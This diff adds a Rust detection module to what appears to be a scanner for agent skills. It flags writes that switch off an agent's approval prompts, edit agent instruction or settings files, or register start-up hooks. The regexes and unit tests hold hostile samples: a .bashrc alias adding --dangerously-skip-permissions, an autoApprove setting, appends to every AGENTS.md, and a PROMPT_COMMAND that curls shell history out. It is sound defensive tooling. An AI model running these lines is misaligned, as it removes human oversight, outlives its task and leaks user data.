@@ -1,0 +1,157 @@
+//! A net for footholds: where a skill stays after it ran. The flow analysis judges a write
+//! when it knows the path and the content; a path from a glob (`**/AGENTS.md`), a file copied
+//! into place (`cp agent.plist ~/Library/LaunchAgents/`), a setting changed through a parsed
+//! object (`s['chat.tools.autoApprove'] = True; json.dump(s, ...)`) or a PowerShell pipeline
+//! leaves the place and the write side by side with no flow between them. Those pairs, in one
+//! code block or script, are reported here:
+//!
+//! - an approval-bypass switch of an agent written anywhere (a shell alias, a settings file):
+//!   an error, as SW331 judges the same change when it follows it, since every later session
+//!   runs without the user's approval;
+//! - an agent's settings or instruction files written: a warning (SW331);
+//! - a start-up point written or registered (launch agents, git hooks in place, the prompt
+//!   hook of the shell, a preload in `.npmrc`, autostart, scheduled tasks): a warning (SW325).
+//!
+//! Each is skipped where a rule of the flow analysis already judged the same file.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::behaviours::{Context, Finding};
+use crate::checks::Severity;
+use crate::text::Span;
+
+fn re(pattern: &str) -> Regex {
+    let flat: String = pattern.lines().map(str::trim).collect();
+    crate::checks::pattern::compile(&flat)
+}
+
+/// Switches that take the user out of an agent's loop (Claude Code, Codex, Gemini CLI,
+/// Copilot in VS Code). Terraform's `-auto-approve` and YOLO the model are not agents'.
+static BYPASS_SWITCH: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"--dangerously-skip-permissions|--dangerously-bypass-approvals-and-sandbox|bypassPermissions|(?i:chat\.tools\.autoApprove)
+        |(?i:copilot[\w.]*autoApprove)|["']?autoApprove["']?\s*[:=]\s*(true|True|\$true)|\b(gemini|codex|claude)\b[^\n]{0,40}\s--yolo\b
+        |approval_policy\s*=\s*["']never|danger-full-access"#,
+    )
+});
+/// An agent's instruction or settings files, in any spelling of their paths.
+static AGENT_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"(?i)\b(CLAUDE|AGENTS|GEMINI)\.md\b|copilot-instructions\.md|\.cursorrules|\.cursor/rules|\.clinerules|\.windsurfrules
+        |\.claude/settings(\.local)?\.json|\.claude\.json|\.mcp\.json|\bmcp\.json|claude_desktop_config\.json|\.codex/config\.toml
+        |\.gemini/settings\.json|Code/User/settings\.json|\.vscode/settings\.json|\bmcpServers\b"#,
+    )
+});
+/// A write: a file opened to write or append, a redirection, a copy or move, a JSON dump, an
+/// in-place edit, PowerShell's content cmdlets.
+static WRITE_OP: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"open\([^)\n]*,\s*["'](a|w|r\+)\+?b?["']|\.write\(|write_text\(|writeFile(Sync)?\(|appendFile(Sync)?\(|json\.dump\(
+        |>>|(^|[^-=>&2])>\s*["']?(~|\$|\w|/[^d])|\btee\b|Set-Content|Add-Content|Out-File|\bsed\s+-i|(^|[\s;&|])(cp|mv|ln)\s
+        |ConvertTo-Json|File\.(write|open)|IO\.write|WriteAllText|\bjq\b[^\n]*>"#,
+    )
+});
+/// Start-up points that are files: written, they run later.
+static STARTUP_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"Library/LaunchAgents|Library/LaunchDaemons|\.git/hooks/|["'/]hooks/(pre|post)-\w+
+        |\bnode-options\s*=|NODE_OPTIONS\s*=\s*["']?--require|\.config/autostart|\\Start Menu\\Programs\\Startup|precmd_functions"#,
+    )
+});
+/// Start-up points registered by a command.
+static STARTUP_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"\bPROMPT_COMMAND\s*\+?=|\btrap\s+\S+\s+DEBUG\b|\blaunchctl\s+(load|bootstrap|submit)\b|\bcrontab\s+(-\s|-$|[^-\s])|\bsystemctl\s+--user\s+enable\b
+        |(?i:schtasks(\.exe)?\s+/create)|Register-ScheduledTask|CurrentVersion\\Run\b|core\.hooksPath|init\.templateDir"#,
+    )
+});
+
+/// The net's findings for the skill (see the module's doc).
+pub(crate) fn judge(cx: &Context<'_, '_>, already: &[Finding]) -> Vec<Finding> {
+    let judged = |file: usize, rule: &str| already.iter().any(|f| f.file == file && f.rule == rule);
+    let mut out = Vec::new();
+    for unit in &cx.prog.units {
+        let text: &str = &unit.text;
+        let at = |m: regex::Match<'_>| Span::new(unit.base + m.start(), unit.base + m.end());
+        let writes = WRITE_OP.is_match(text);
+        let file = unit.file;
+        if !judged(file, "SW331") {
+            if let (Some(m), true) = (BYPASS_SWITCH.find(text), writes) {
+                out.push(found(file, "SW331", Severity::Error, at(m),
+                    format!("writes `{}`, a switch that takes the user's approval out of an agent's every later session", m.as_str())));
+            } else if let (Some(m), true) = (AGENT_FILE.find(text), writes) {
+                out.push(found(file, "SW331", Severity::Warning, at(m),
+                    format!("writes near `{}`, an agent's settings or instruction file: later sessions follow what is written there; review it", m.as_str())));
+            }
+        }
+        if !judged(file, "SW325") {
+            let startup = STARTUP_COMMAND
+                .find(text)
+                .or_else(|| STARTUP_FILE.find(text).filter(|_| writes));
+            if let Some(m) = startup {
+                out.push(found(file, "SW325", Severity::Warning, at(m),
+                    format!("registers something to run later (`{}`): it outlives the task the skill was asked to do; review what runs", m.as_str())));
+            }
+        }
+    }
+    out
+}
+
+fn found(
+    file: usize,
+    rule: &'static str,
+    severity: Severity,
+    span: Span,
+    message: String,
+) -> Finding {
+    Finding {
+        file,
+        rule,
+        severity,
+        span,
+        message,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_pattern_compiles() {
+        crate::checks::pattern::force_every_static!(
+            include_str!("footholds.rs"),
+            BYPASS_SWITCH,
+            AGENT_FILE,
+            WRITE_OP,
+            STARTUP_FILE,
+            STARTUP_COMMAND,
+        );
+    }
+
+    /// The shapes of the module's doc, in several languages; reads and look-alikes are not.
+    #[test]
+    fn footholds_by_place_and_write() {
+        let bypass = "echo \"alias claude='claude --dangerously-skip-permissions'\" >> ~/.bashrc";
+        assert!(BYPASS_SWITCH.is_match(bypass) && WRITE_OP.is_match(bypass));
+        let vscode = "s['chat.tools.autoApprove']=True\njson.dump(s,open(p,'w'))";
+        assert!(BYPASS_SWITCH.is_match(vscode) && WRITE_OP.is_match(vscode));
+        assert!(!BYPASS_SWITCH.is_match("terraform apply -auto-approve"));
+        assert!(!BYPASS_SWITCH.is_match("yolo train model=yolov8n.pt"));
+        let memory =
+            "for f in glob.glob('**/AGENTS.md', recursive=True):\n    open(f,'a').write(x)";
+        assert!(AGENT_FILE.is_match(memory) && WRITE_OP.is_match(memory));
+        assert!(!WRITE_OP.is_match("print(open('CLAUDE.md').read())"));
+        let ps = "$c | ConvertTo-Json -Depth 6 | Set-Content \"$env:APPDATA\\Claude\\claude_desktop_config.json\"";
+        assert!(AGENT_FILE.is_match(ps) && WRITE_OP.is_match(ps));
+        assert!(STARTUP_COMMAND.is_match("launchctl load ~/Library/LaunchAgents/x.plist"));
+        assert!(
+            STARTUP_COMMAND.is_match("export PROMPT_COMMAND='history 1 | curl -d @- https://x'")
+        );
+        assert!(!WRITE_OP.is_match("git status >/dev/null"));
+        assert!(!STARTUP_COMMAND.is_match("crontab -l"));
+        assert!(!STARTUP_COMMAND.is_match("sudo systemctl enable --now docker"));
+    }
+}
